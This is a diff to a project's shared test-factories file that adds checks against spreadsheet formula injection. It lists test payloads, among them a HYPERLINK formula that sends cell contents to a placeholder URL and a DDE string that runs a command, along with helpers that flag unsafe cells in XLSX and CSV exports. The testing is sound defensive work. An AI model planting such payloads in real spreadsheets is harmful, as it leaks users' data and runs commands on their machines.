@@ -1,11 +1,14 @@
 """Factories and the shared test actors (used by every app's tests; needs factory_boy)."""
 
 import datetime
+import io
 from dataclasses import dataclass
 
 import factory
+from openpyxl import load_workbook
 
 from crocevia.accounts.models import Membership, Profile, User
+from crocevia.core.spreadsheets import looks_like_formula
 from crocevia.core.text import fold
 from crocevia.network.models import Comune, Desk, Organisation, Zone
 from crocevia.people.models import Person
@@ -160,3 +163,45 @@ def build_actors() -> Actors:
         monitoring_officer=make_member("monitoraggio", sds, Profile.MONITORING_OFFICER),
         admin=admin,
     )
+
+
+# --- formula injection (issue 15) ---------------------------------------------------------
+
+# Texts a spreadsheet would evaluate: OWASP's examples, a tab, full-width and spaced forms.
+FORMULA_PAYLOADS = (
+    '=HYPERLINK("http://example.org/x?d="&A1;"clic")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\uff1d1+1",
+    "  =1+1",
+)
+
+
+def workbook_texts(data: bytes) -> tuple[list[str], list[str]]:
+    """(every text of an XLSX file, the cells a spreadsheet could evaluate): a cell is
+    unsafe if it is a formula, or a formula-like text without the quote prefix."""
+    texts, unsafe = [], []
+    book = load_workbook(io.BytesIO(data))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                where = f"{sheet.title}!{cell.coordinate} {cell.value!r}"
+                if cell.data_type == "f":
+                    unsafe.append(f"{where}: a formula")
+                elif isinstance(cell.value, str):
+                    texts.append(cell.value)
+                    if looks_like_formula(cell.value) and not cell.quotePrefix:
+                        unsafe.append(f"{where}: formula-like text without quote prefix")
+    return texts, unsafe
+
+
+def unsafe_csv_cells(rows: list[list[str]]) -> list[str]:
+    """The cells of a CSV file (as read by `csv.reader`) that a spreadsheet evaluates."""
+    return [
+        f"line {line}: {cell!r}"
+        for line, row in enumerate(rows, start=1)
+        for cell in row
+        if looks_like_formula(cell)
+    ]
